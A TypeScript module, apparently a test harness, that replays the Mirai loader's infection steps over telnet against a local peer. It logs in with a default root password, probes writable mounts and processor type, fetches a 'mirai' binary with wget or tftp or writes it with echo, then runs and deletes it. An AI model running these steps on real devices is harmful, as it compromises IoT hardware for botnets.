import assert from 'node:assert/strict'
import type { Device } from './device.ts'
import { TelnetPeer } from './peer.ts'

/** The word that loaders wait for after each of their lines. */
const token = 'ECCHI'
const answered = new RegExp(`${token}: applet not found\\r\\n`)
/** Bytes in one `echo`: what the buffers of old shells can take. */
const pieceBytes = 128

/** Each line that it sends, in order. */
export interface Loaded {
  readonly commands: readonly string[]
}

/**
 * Mirai's way onto a device, as its loader goes it: out of whatever menu there is, which folders can be written, what the processor is, which
 * program fetches files; where none does, the program is written by echo, run, and removed.
 */
export async function load(port: number, device: Device, program: Uint8Array): Promise<Loaded> {
  const [peer] = await TelnetPeer.logIn(port, 'root', 'xc3511')
  const commands: string[] = []
  const say = async (line: string, answer = answered): Promise<string> => {
    commands.push(line)
    peer.send(`${line}\r\n`)
    return peer.until(answer)
  }
  const ask = (line: string): Promise<string> => say(`${line}; /bin/busybox ${token}`)

  for (const word of ['enable', 'system', 'shell', 'linuxshell'])
    await say(word, new RegExp(`: ${word}: not found\\r\\n`))
  await say('sh', /\r\n.*[#$] $/)
  await say(`/bin/busybox ${token}`)
  assert.match(await ask('/bin/busybox ps'), /\n +1 root/)
  const mounts = await ask('/bin/busybox cat /proc/mounts')
  const writable = [...mounts.matchAll(/^\S+ (\/\S*) (?:tmpfs|ramfs) rw/gm)].map(([, path]) => path!)
  assert(writable.length > 0, mounts)
  for (const path of writable) {
    const hex = [...Buffer.from(`kami${path}`)].map((byte) => `\\x${byte.toString(16)}`).join('')
    const line = `/bin/busybox echo -e '${hex}' > ${path}/.nippon; /bin/busybox cat ${path}/.nippon; /bin/busybox rm ${path}/.nippon`
    assert.match(await ask(line), new RegExp(`\\nkami${path}\\r\\n`))
  }
  await ask(`cd ${writable[0]!}`)
  await ask('/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper')
  const echo = await ask('/bin/busybox cat /bin/echo')
  const elf = Buffer.from(echo.slice(echo.indexOf('\x7fELF')), 'latin1')
  assert.equal(elf[5], device.order)
  assert.equal(device.order === 2 ? elf.readUInt16BE(18) : elf.readUInt16LE(18), device.code)
  const ways = await ask('/bin/busybox wget; /bin/busybox tftp')
  assert.match(ways, /Usage: wget .*Usage: tftp /s)
  const name = `mirai.${device.suffix}`
  await ask(
    `/bin/busybox wget http://127.0.0.1:8080/bins/${name} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper`,
  )
  await ask(`/bin/busybox tftp -g -l dvrHelper -r ${name} 127.0.0.1`)
  for (let at = 0; at < program.length; at += pieceBytes) {
    const hex = [...program.subarray(at, at + pieceBytes)]
      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
      .join('')
    await ask(`echo -ne '${hex}' ${at === 0 ? '>' : '>>'} upnp`)
  }
  await ask('/bin/busybox chmod 777 upnp')
  const ran = await ask(`./upnp telnet.${device.suffix}`)
  assert.doesNotMatch(ran, /syntax error|Exec format|not found\r\n.*not found/s)
  await ask('rm -rf upnp; > dvrHelper')
  peer.leave()
  return { commands }
}
